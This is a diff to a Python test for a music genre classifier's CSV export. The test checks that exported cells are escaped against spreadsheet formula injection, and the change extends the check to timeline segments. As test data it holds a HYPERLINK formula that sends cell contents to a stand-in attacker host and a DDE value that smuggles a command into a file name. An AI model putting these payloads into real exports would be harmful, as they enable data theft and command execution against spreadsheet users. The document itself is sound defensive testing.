@@ -88,18 +88,18 @@ def test_text_from_outside_is_never_a_spreadsheet_formula(tmp_path):
     from genrekit._files import from_spreadsheet_cell
     from genrekit.predict.disagreements import Disagreement, write_disagreements
     from genrekit.predict.library import write_table
-    from genrekit.predict.song import Prediction
+    from genrekit.predict.song import Prediction, Segment
 
     evil = "=HYPERLINK(\"http://evil.example/?\"&A2,\"open\")"
     name = "=cmd|' /C calc'!A0.mp3"
+    segment = Segment(start=0.0, end=3.0, genre="=rock", confidence=0.9, probabilities={"rock": 0.9, "jazz": 0.1})
     prediction = Prediction(path=name, genre="rock", confidence=0.9, probabilities={"rock": 0.9, "jazz": 0.1},
-                            n_chunks=1, proportions={"rock": 1.0, "jazz": 0.0})
+                            n_chunks=1, proportions={"rock": 1.0, "jazz": 0.0}, timeline=[segment])
     failures = {"+bad.mp3": "+bad.mp3: not audio"}
     for text in (formats.csv_text([prediction], failures, ["jazz", "rock"]),
-                 formats.timeline_csv_text([prediction], failures, ["jazz", "rock"])):  # (no timeline rows here)
+                 formats.timeline_csv_text([prediction], failures, ["jazz", "rock"])):
         cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
-        assert "'+bad.mp3" in cells and "'+bad.mp3: not audio" in cells
-        assert f"'{name}" in cells or text.startswith("path,start")
+        assert f"'{name}" in cells and "'+bad.mp3" in cells and "'+bad.mp3: not audio" in cells
         assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
     write_disagreements([Disagreement(name, [evil, "Jazz"], "rock", 0.9, 0.05, False)], tmp_path / "d.csv")
     row = next(csv.DictReader(open(tmp_path / "d.csv", newline="")))
@@ -109,3 +109,4 @@ def test_text_from_outside_is_never_a_spreadsheet_formula(tmp_path):
     row = next(csv.DictReader(open(table, newline="")))
     assert row["path"] == f"'{name}" and row["error"] == f"'-12 dB: {name}"
     assert from_spreadsheet_cell(row["path"]) == name and from_spreadsheet_cell("'plain") == "'plain"
+    assert "'=rock" in formats.timeline_csv_text([prediction], {}, ["jazz", "rock"])
